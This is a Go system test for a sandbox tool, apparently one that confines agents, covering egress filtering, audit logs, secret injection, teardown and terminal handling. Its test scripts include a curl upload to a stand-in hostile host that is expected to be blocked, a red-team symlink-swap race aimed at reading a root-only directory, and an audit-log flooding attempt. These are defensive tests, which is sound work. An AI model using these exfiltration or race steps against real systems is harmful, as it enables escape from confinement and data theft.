package system

import (
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/nixcage/nixcage/internal/systest"
	"github.com/nixcage/nixcage/internal/testenv"
)

// runConfig: no declared agent is needed for cagectl run; a declared
// policy, a viewer (nobody) and an operator (runner).
const runConfig = `
egress_policy "p" {
  allow = ["api.example.com"]
}
egress_policy "bulk" {
  allow = ["api.example.com"]
  rate_limit {
    per_second = 2000
    burst      = 5000
  }
}
agent "tty" {
  backend     = "service"
  command     = ["/bin/sh", "-i"]
  egress      = "p"
  interactive = true
  autostart   = false
}
account "viewers" {
  user = "nobody"
  role = "viewer"
}
account "operators" {
  user = "runner"
  role = "operator"
}
`

// runSecret is the real value of the run's secret; only the fake API may
// ever see it.
const runSecret = "sk-run-REAL-9f8e7d6c5b4a39281706f5e4d3c2b1a0"

// runJob is the script the cage runs from its workspace: one allowed and
// one refused request, a file written to the workspace, exit 7.
const runJob = `#!/bin/sh
echo "allowed: $(curl -sS -o /dev/null -w '%{http_code}' https://api.example.com/v1/ok)"
echo "refused: $(curl -sS -o /dev/null -w '%{http_code}' https://evil.example.org/upload 2>&1)"
echo "uid: $(id -u)"
echo written > /workspace/out.txt
exit 7
`

// swapAttack runs as the caller (runner) from the directory it binds: on
// its run's RunStarted it moves the directory away and leaves in its place
// a symlink to one it cannot reach (its parent is root's, 0700), whose
// file it could read if it were bound.
const swapAttack = `cd /srv/swap/proj || exit 1
{ timeout 30 cagectl events --json | while read -r l; do
    case $l in *'"kind":"RunStarted","agent":"swap"'*)
      mv /srv/swap/proj /srv/swap/old && ln -s /srv/swap/locked/inner /srv/swap/proj && echo swapped; break;;
    esac
  done; } &
sleep 2
cagectl run --name swap --backend nspawn -- cat /workspace/f; echo "exit $?"
wait
`

// TestRunOnSystemd drives cagectl run through caged on the machine's real
// system bus and systemd: exit status passed through, an allowed and a
// refused request with the summary and the audit, the workspace written as
// the caller, the run visible in status while it runs, teardown leaving
// nothing but the audit, a viewer refused with exit 3, and a real PTY
// (the test holds the master: typed input, tty inside, Ctrl-C).
func TestRunOnSystemd(t *testing.T) {
	testenv.RequireSystem(t)
	_, bins := cagedBinaries(t)
	m, in, ctx := nixcageMachine(t, 4*time.Minute, bins, runConfig, nil, nil)
	sh, run := machineScripts(t, ctx, m)
	sh("useradd --no-create-home --uid 1500 runner && systemctl reload dbus && systemctl start nixcage-caged.service")
	// The workspace lives on a filesystem with ID-mapped mounts (tmpfs
	// here; the machine's overlayfs root has none), owned by the caller.
	sh("mkdir -p /var/lib/nixcage/ws && chown runner: /var/lib/nixcage/ws")
	m.MustWriteFile(t, "/var/lib/nixcage/ws/job.sh", []byte(runJob), 0o755)

	// The run, as the operator: exit status, requests, workspace, summary.
	stdout, stderr, code := run("cd /var/lib/nixcage/ws && setpriv --reuid=runner --regid=runner --init-groups cagectl run --policy p -- sh job.sh")
	if code != 7 {
		t.Fatalf("cagectl run exited %d, want the command's 7", code)
	}
	for _, want := range []string{"allowed: 200", "uid: 1500"} {
		if !strings.Contains(stdout, want) {
			t.Errorf("cage output lacks %q", want)
		}
	}
	if strings.Contains(stdout, "refused: 200") {
		t.Errorf("the refused host answered:\n%s", stdout)
	}
	for _, want := range []string{"/var/lib/nixcage/ws is bound read-write at /workspace", "exited with status 7", "1 allowed", "1 blocked", "blocked: evil.example.org", "audit kept in /var/log/nixcage-egress/run-"} {
		if !strings.Contains(stderr, want) {
			t.Errorf("cagectl's stderr lacks %q", want)
		}
	}
	if owner := strings.TrimSpace(sh("stat -c %U:%s /var/lib/nixcage/ws/out.txt")); owner != "runner:8" {
		t.Errorf("file written in /workspace: owner:size %q, want runner:8 (written as the caller)", owner)
	}
	reqs, err := in.Requests()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range reqs {
		if strings.Contains(r.Host, "evil") {
			t.Errorf("the refused host was contacted: %+v", r)
		}
	}
	audit := sh("cat /var/log/nixcage-egress/run-*/audit.jsonl")
	if !strings.Contains(audit, `"decision":"blocked"`) || !strings.Contains(audit, "evil.example.org") || !strings.Contains(audit, `"decision":"allowed"`) {
		t.Errorf("audit kept after the run lacks the decisions:\n%s", audit)
	}
	assertTornDown(t, sh)

	// Directories caged itself cannot see (its unit has ProtectHome=yes and
	// PrivateTmp=yes): the caller's descriptor decides, not caged's view.
	// (tmpfs: ID-mapped mounts need a filesystem that has them.)
	sh("for d in /tmp/run-ws /home/runner/project; do mkdir -p $d && mount -t tmpfs tmpfs $d && echo from-$d > $d/f; done")
	for _, dir := range []string{"/tmp/run-ws", "/home/runner/project"} {
		for _, backend := range []string{"nspawn", "service"} {
			out, _, code := run("cd " + dir + " && cagectl run --backend " + backend + " -- cat /workspace/f")
			if code != 0 || !strings.Contains(out, "from-"+dir) {
				t.Errorf("%s from %s: exit %d, output %q", backend, dir, code, out)
			}
		}
	}

	// A caller who swaps the directory they opened after caged's check
	// (red team reading the units): a source outside /home and /tmp is the
	// live host path in the nspawn unit's namespace, so a rename and a
	// symlink put there before nspawn read its --bind had nspawn (root)
	// bind a directory the caller cannot reach (and the cage read its
	// file: "root-only", seen before the fix). The caller (runner)
	// swaps on RunStarted, which caged sends after its check; the test
	// holds nspawn back 2 s (a wrapper around the `cagectl store binds`
	// the unit runs before it execs nspawn) so that the swap surely lands
	// first. The cage must still see the opened directory.
	testenv.LookPath(t, "setpriv")
	m.MustWriteFile(t, "/srv/swap.sh", []byte(swapAttack), 0o755)
	swap := sh(`mkdir -p /srv/swap && mount -t tmpfs -o mode=0755 tmpfs /srv/swap
mkdir -p /srv/swap/proj /srv/swap/locked/inner && echo from-opened > /srv/swap/proj/f && echo root-only > /srv/swap/locked/inner/f
chmod 0700 /srv/swap/locked && chown runner: /srv/swap /srv/swap/proj
mv /usr/local/bin/cagectl /usr/local/bin/cagectl.real
printf '#!/bin/sh\n[ "$1 $2" = "store binds" ] && sleep 2\nexec /usr/local/bin/cagectl.real "$@"\n' > /usr/local/bin/cagectl && chmod 755 /usr/local/bin/cagectl
setpriv --reuid=runner --regid=runner --init-groups sh /srv/swap.sh 2>&1 || true
mv /usr/local/bin/cagectl.real /usr/local/bin/cagectl; umount /srv/swap`)
	if !strings.Contains(swap, "swapped") || !strings.Contains(swap, "exit 0") {
		t.Errorf("the swap after caged's check did not happen, or the run failed:\n%s", swap)
	}
	if !strings.Contains(swap, "from-opened") || strings.Contains(swap, "root-only") {
		t.Errorf("a directory swapped after caged's check: the cage must see the one opened (from-opened), not the root-only one:\n%s", swap)
	}
	waitTornDown(t, sh)

	// caged reports a run's end before its teardown: a second run of the
	// same name right after waits for that teardown instead of colliding.
	if _, stderr, code := run("cagectl run --name again --no-workspace -- true && cagectl run --name again --backend service --no-workspace -- true"); code != 0 {
		t.Errorf("two runs of one name back to back: exit %d\n%s", code, stderr)
	}

	// After a run caged starts the next one's namespace (a spare), and a
	// run without --name gets it.
	var spares []string
	for i := 0; i < 100 && len(spares) == 0; i++ {
		time.Sleep(100 * time.Millisecond)
		spares = waitTornDown(t, sh)
	}
	if len(spares) != 1 {
		t.Errorf("spare namespaces after a run: %v, want one", spares)
	} else if _, stderr, code := run("cagectl run --no-workspace -- true"); code != 0 || !strings.Contains(stderr, "cage "+spares[0]+" exited") {
		t.Errorf("a run after the spare %s was made: exit %d, %q; want it to be that run", spares[0], code, stderr)
	}
	assertTornDown(t, sh)

	// Several runs of one name asked for while an earlier one is torn
	// down (red team): every waiter is released at the same moment, and
	// exactly one may take the name. The others are refused naming it; the
	// one that took it runs to its end, untouched by their refusal.
	// (The test slows that teardown by 2 s with a drop-in on the run's
	// namespace unit, so that all four surely wait for it.)
	race := sh(`mkdir -p /etc/systemd/system/nixcage-netns@race.service.d
printf '[Service]\nExecStopPost=/bin/sleep 2\n' > /etc/systemd/system/nixcage-netns@race.service.d/slow.conf
cagectl run --name race --no-workspace -- true
rm -r /etc/systemd/system/nixcage-netns@race.service.d
for i in 1 2 3 4; do (if cagectl run --name race --no-workspace -- sleep 2 >/dev/null 2>/tmp/race-$i; then echo "exit 0"; else echo "exit $?"; fi) & done; wait
cat /tmp/race-*; rm -f /tmp/race-*`)
	if strings.Count(race, "exit 0") != 1 || strings.Count(race, "exit ") != 4 || strings.Count(race, "choose another --name") != 3 {
		t.Errorf("four runs of one name at once: want one to run (exit 0) and three refused naming it, got:\n%s", race)
	}
	waitTornDown(t, sh)

	// The summary is the run's, all of it (red team). An earlier run of
	// the name leaves a refusal in the audit log, which is kept; then the
	// caged agent of the next run fills the log with allowed requests
	// (allowed records have no budget; each carries the longest path a
	// record keeps) past one read's worth, and only then tries a refused
	// host. Its summary lists that host and not the earlier run's. (Its
	// policy "bulk" allows thousands of requests a second, as one for a
	// package registry would; under the default rate limit the same
	// flood only takes longer.)
	run("cagectl run --name tally --no-workspace --policy p -- /bin/sh -c 'curl -sS https://earlier.example.net/ >/dev/null; true'")
	_, stderr, _ = run(`cagectl run --name tally --no-workspace --policy bulk -- /bin/sh -c '
p=$(head -c 1000 /dev/zero | tr "\0" "~")
curl -s "http://api.example.com/$p/[1-4000]" >/dev/null
curl -sS https://evil.example.org/ >/dev/null; true'`)
	for _, want := range []string{"4000 allowed", "1 blocked", "(blocked: evil.example.org)"} {
		if !strings.Contains(stderr, want) {
			t.Errorf("summary of a run that flooded its audit log first lacks %q:\n%s\nreasons in the log:\n%s", want, stderr,
				sh(`grep -o '"decision":"[a-z]*".\{0,20\}\|"reason":"[^"]\{0,60\}' /var/log/nixcage-egress/tally/audit.jsonl | sort | uniq -c | sort -rn | head; ls -l /var/log/nixcage-egress/tally/`))
		}
	}
	if strings.Contains(stderr, "earlier.example.net") {
		t.Errorf("summary lists a host an earlier run of the name was refused:\n%s", stderr)
	}

	// The service backend, no workspace, and a command that fails.
	if _, _, code := run("cagectl run --backend service --no-workspace -- /bin/sh -c 'test ! -e /workspace/job.sh && touch /workspace/x && exit 4'"); code != 4 {
		t.Errorf("service backend run exited %d, want 4", code)
	}
	assertTornDown(t, sh)

	// While it runs, a run is in status and events.
	// Bounded by timeout(1) inside the machine: killing nsenter would
	// leave cagectl holding the output pipe.
	events := m.Command(ctx, "timeout", "8", "cagectl", "events", "--json")
	var evOut lockedBuffer
	events.Stdout = &evOut
	if err := events.Start(); err != nil {
		t.Fatal(err)
	}
	bg := m.Command(ctx, "timeout", "60", "cagectl", "run", "--name", "visible", "--no-workspace", "--", "sleep", "3")
	if err := bg.Start(); err != nil {
		t.Fatal(err)
	}
	seen := false
	for i := 0; i < 50 && !seen; i++ {
		time.Sleep(100 * time.Millisecond)
		st, _ := m.Run(ctx, "cagectl", "status")
		seen = strings.Contains(st, "visible") && strings.Contains(st, "root")
	}
	if !seen {
		t.Error("a running throw-away cage is not in cagectl status")
	}
	if err := bg.Wait(); err != nil {
		t.Errorf("cagectl run sleep: %v", err)
	}
	events.Wait()
	for _, want := range []string{`"kind":"RunStarted","agent":"visible"`, `"kind":"RunFinished","agent":"visible"`} {
		if !strings.Contains(evOut.String(), want) {
			t.Errorf("events lack %s:\n%s", want, evOut.String())
		}
	}

	// A secret through --allow: the gateway injects the real value for the
	// allowed host, the cage only ever sees the placeholder.
	m.MustWriteFile(t, "/root/run-key", []byte(runSecret), 0o600)
	sh("mkdir -p /var/lib/nixcage/ro-data && echo shared > /var/lib/nixcage/ro-data/note")
	stdout, _, code = run(`cagectl run --no-workspace --allow api.example.com --secret k:API_KEY=/root/run-key --bind /var/lib/nixcage/ro-data:ro -- /bin/sh -c '
echo "key=$API_KEY"
curl -sS -H "Authorization: Bearer $API_KEY" https://api.example.com/v1/echo
echo; cat /mnt/ro-data/note; echo x > /mnt/ro-data/new 2>/dev/null && echo bind-writable || echo bind-read-only'`)
	if code != 0 {
		t.Fatalf("run with a secret: exit %d", code)
	}
	if strings.Contains(stdout, runSecret) {
		t.Errorf("the cage saw the real secret:\n%s", stdout)
	}
	if !strings.Contains(stdout, "key=") || strings.Contains(stdout, "key=\n") {
		t.Errorf("the cage got no placeholder:\n%s", stdout)
	}
	for _, want := range []string{"shared", "bind-read-only"} {
		if !strings.Contains(stdout, want) {
			t.Errorf("--bind DIR:ro: output lacks %q", want)
		}
	}
	injected := false
	reqs, _ = in.Requests()
	for _, r := range reqs {
		if r.Path == "/v1/echo" && strings.Contains(strings.Join(r.Headers["Authorization"], " "), runSecret) {
			injected = true
		}
	}
	if !injected {
		t.Error("the fake API never received the real secret")
	}
	waitTornDown(t, sh)
	if left := sh("grep -rl " + runSecret + " /run/systemd /run/nixcage /var/lib/nixcage 2>/dev/null || true"); strings.TrimSpace(left) != "" {
		t.Errorf("the secret or the run's files outlived the run:\n%s", left)
	}

	// cagectl killed: caged notices the caller left and tears the cage down.
	gone := m.Command(ctx, "timeout", "60", "cagectl", "run", "--name", "orphan", "--no-workspace", "--", "sleep", "600")
	if err := gone.Start(); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 100; i++ {
		if st, _ := m.UnitState(ctx, "nixcage-agent@orphan.service"); st.Active == "active" {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	sh("kill -KILL $(pgrep -f '^cagectl run --name orphan')")
	gone.Wait()
	for i := 0; ; i++ {
		if st, _ := m.UnitState(ctx, "nixcage-agent@orphan.service"); st.Active == "inactive" && !strings.Contains(sh("ls /run/nixcage/runs/"), "orphan") {
			break
		}
		if i > 100 {
			t.Fatal("the cage of a killed cagectl still runs after 10 s")
		}
		time.Sleep(100 * time.Millisecond)
	}
	assertTornDown(t, sh)

	// caged restarting: it tears its runs down first, and their callers
	// say so and exit 4 (caged unreachable); nothing is left.
	restarted := m.Command(ctx, "timeout", "60", "cagectl", "run", "--name", "across", "--no-workspace", "--", "sleep", "600")
	var restartedErr lockedBuffer
	restarted.Stderr = &restartedErr
	if err := restarted.Start(); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 100; i++ {
		if st, _ := m.UnitState(ctx, "nixcage-agent@across.service"); st.Active == "active" {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	sh("systemctl restart nixcage-caged.service")
	err = restarted.Wait()
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.ExitCode() != 4 || !strings.Contains(restartedErr.String(), "caged stopped or restarted while cage across ran") {
		t.Errorf("cagectl run across a caged restart: %v, stderr %q; want exit 4 and the reason", err, restartedErr.String())
	}
	assertTornDown(t, sh)

	// A viewer is refused, naming the role it needs.
	if _, stderr, code := run("setpriv --reuid=nobody --regid=nogroup --clear-groups cagectl run --no-workspace -- true"); code != 3 || !strings.Contains(stderr, `role "operator"`) {
		t.Errorf("viewer: exit %d, stderr %q; want 3 naming role operator", code, stderr)
	}
	// A missing secret file is named before anything starts.
	if _, stderr, code := run("cagectl run --no-workspace --policy claude-code --secret anthropic=/nonexistent/key -- true"); code != 2 || !strings.Contains(stderr, "/nonexistent/key") {
		t.Errorf("missing secret: exit %d, stderr %q; want 2 naming the file", code, stderr)
	}

	// A real terminal: the test holds the pty master as a user's terminal
	// emulator would.
	for _, backend := range []string{"nspawn", "service"} {
		t.Run("pty-"+backend, func(t *testing.T) {
			out, code := runPTY(t, ctx, m, "cagectl run --backend "+backend+" --no-workspace -- /bin/sh -c 'tty; test -t 0 && echo has-terminal; trap \"echo got-int; exit 9\" INT; echo ready; read line; echo \"read:$line\"; while :; do sleep 0.1; done'",
				func(p *ptyDriver) {
					p.expect(t, "ready")
					p.write("hello cage\r")
					p.expect(t, "read:hello cage")
					p.write("\x03") // Ctrl-C, as a byte: the cage's terminal makes it SIGINT
					p.expect(t, "got-int")
				})
			if code != 9 {
				t.Errorf("exit %d, want 9 (the trap's)\n%s", code, out)
			}
			if !strings.Contains(out, "has-terminal") {
				t.Errorf("the command had no terminal:\n%s", out)
			}
			// nspawn's console is on the cage's own devpts, so ttyname()
			// names it; a service cage has an empty /dev/pts and its
			// terminal is only an fd (threat-model.md, /dev/pts).
			if backend == "nspawn" && !strings.Contains(out, "/dev/pts/") {
				t.Errorf("tty in an nspawn cage named no /dev/pts terminal:\n%s", out)
			}
		})
	}
	assertTornDown(t, sh)

	// An interactive declared agent: caged holds its terminal, attach
	// connects to it, Ctrl-] detaches and the agent goes on; attaching again
	// replays what it printed meanwhile.
	sh("cagectl start tty")
	out, code := runPTY(t, ctx, m, "cagectl attach tty", func(p *ptyDriver) {
		p.expect(t, "attached to tty")
		p.write("echo $((6*7))-answer\r")
		p.expect(t, "42-answer")
		p.write("\x1d")
		p.expect(t, "detached from tty")
	})
	if code != 0 {
		t.Errorf("attach: exit %d\n%s", code, out)
	}
	if st, _ := m.UnitState(ctx, "nixcage-agent@tty.service"); st.Active != "active" {
		t.Errorf("the agent is %s after detaching, want active", st.Active)
	}
	out, code = runPTY(t, ctx, m, "cagectl attach tty", func(p *ptyDriver) {
		p.expect(t, "42-answer") // the backlog
		p.write("echo again-$((1+1))\r")
		p.expect(t, "again-2")
		p.write("\x1d")
		p.expect(t, "detached from tty")
	})
	if code != 0 {
		t.Errorf("second attach: exit %d\n%s", code, out)
	}
	if stdout, _, code := run("setpriv --reuid=nobody --regid=nogroup --clear-groups script -qec 'cagectl attach tty' /dev/null"); code != 3 || !strings.Contains(stdout, `role "operator"`) {
		t.Errorf("a viewer attaching: exit %d, %q; want 3 naming role operator", code, stdout)
	}
	// An interactive sh ignores SIGTERM; kill it rather than wait out the
	// stop timeout.
	sh("cagectl kill tty && cagectl stop tty")
}

// assertTornDown: nothing of any run is left but its audit. caged reports
// a run's end (cagectl exits) before it tears the cage down, and removes
// the run's directory last; so this waits, up to 10 s, for every run's
// directory to be gone, then checks that nothing else is left either. The
// one thing caged keeps is the next run's spare namespace (docs/run.md):
// at most one, with nothing in it but lo and no process, and nothing of it
// but its namespace unit, directory and mark.
func assertTornDown(t *testing.T, sh func(string) string) {
	t.Helper()
	// caged makes the next spare after a teardown, off every caller's path:
	// its directory, unit and namespace can appear between the wait and the
	// listing (seen as "nixcage-netns@run-... activating"), so a listing
	// with something left is taken again, for up to 5 s, and only what is
	// still there then counts. A real leak stays.
	var spares, rest []string
	for deadline := time.Now().Add(5 * time.Second); ; {
		spares = waitTornDown(t, sh)
		left := sh(`ls -d /run/systemd/system/*@run-* /run/systemd/system/*@visible* /run/systemd/transient/*run-* /run/netns/nixcage-* /run/nixcage/runs/* /run/nixcage/cage/* /var/lib/nixcage/egress/* 2>/dev/null || true
systemctl list-units --all --no-legend --plain 'nixcage-*' 'cage-egress*' | grep -v caged || true`)
		rest = nil
		for _, l := range strings.Split(strings.TrimSpace(left), "\n") {
			if l != "" && !spareLine(l, spares) {
				rest = append(rest, l)
			}
		}
		if len(rest) == 0 || time.Now().After(deadline) {
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	if len(spares) > 1 {
		t.Errorf("more than one spare namespace: %v", spares)
	}
	for _, sp := range spares {
		if got := strings.TrimSpace(sh("ip netns pids nixcage-" + sp + "; ip -n nixcage-" + sp + " -o link show | cut -d: -f2")); got != "lo" {
			t.Errorf("the spare namespace of %s is not fresh: %q, want only lo and no process", sp, got)
		}
	}
	if len(rest) > 0 {
		t.Errorf("left after the run:\n%s", strings.Join(rest, "\n"))
	}
}

func spareLine(l string, spares []string) bool {
	for _, sp := range spares {
		for _, own := range []string{"/run/netns/nixcage-" + sp, "/run/systemd/system/nixcage-netns@" + sp + ".service", "/run/nixcage/runs/" + sp, "nixcage-netns@" + sp + ".service "} {
			if l == own || strings.HasPrefix(l, own) && own[len(own)-1] == ' ' {
				return true
			}
		}
	}
	return false
}

// waitTornDown waits, up to 10 s, until no run's directory is left
// (/run/nixcage/runs/NAME, removed last by a teardown) but spares' (with
// their mark), and returns the spares' names.
func waitTornDown(t *testing.T, sh func(string) string) (spares []string) {
	t.Helper()
	for i := 0; ; i++ {
		var runs []string
		spares = nil
		for _, l := range strings.Fields(sh(`for d in /run/nixcage/runs/*/; do [ -d "$d" ] || continue; n=$(basename "$d"); if [ -e "$d/spare" ]; then echo "spare:$n"; else echo "$n"; fi; done`)) {
			if sp, ok := strings.CutPrefix(l, "spare:"); ok {
				spares = append(spares, sp)
			} else {
				runs = append(runs, l)
			}
		}
		if len(runs) == 0 {
			return spares
		}
		if i == 100 {
			t.Errorf("a run's teardown is not done 10 s after its cagectl exited: %v", runs)
			return spares
		}
		time.Sleep(100 * time.Millisecond)
	}
}

type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// ptyDriver is the master side of a pty cagectl runs on.
type ptyDriver struct {
	master *os.File
	out    lockedBuffer
}

func (p *ptyDriver) write(s string) { p.master.Write([]byte(s)) }

func (p *ptyDriver) expect(t *testing.T, want string) {
	t.Helper()
	for i := 0; i < 200; i++ {
		if strings.Contains(p.out.String(), want) {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("terminal never showed %q:\n%s", want, p.out.String())
}

// runPTY runs script in the machine with a new pty as its stdin, stdout
// and stderr, lets drive type into it, and returns what the terminal
// showed and the exit status.
func runPTY(t *testing.T, ctx context.Context, m *systest.Machine, script string, drive func(*ptyDriver)) (string, int) {
	t.Helper()
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Skipf("no pty on this host: %v", err)
	}
	defer master.Close()
	unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0)
	n, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Fatal(err)
	}
	slave, err := os.OpenFile("/dev/pts/"+itoa(n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	unix.IoctlSetWinsize(int(slave.Fd()), unix.TIOCSWINSZ, &unix.Winsize{Row: 40, Col: 120})
	cmd := m.Command(ctx, "/bin/sh", "-c", script)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
	cmd.Env = append(cmd.Env, "TERM=xterm-256color")
	p := &ptyDriver{master: master}
	go io.Copy(&p.out, master)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	slave.Close()
	drive(p)
	err = cmd.Wait()
	time.Sleep(100 * time.Millisecond)
	code := 0
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	t.Logf("terminal:\n%s", p.out.String())
	return p.out.String(), code
}
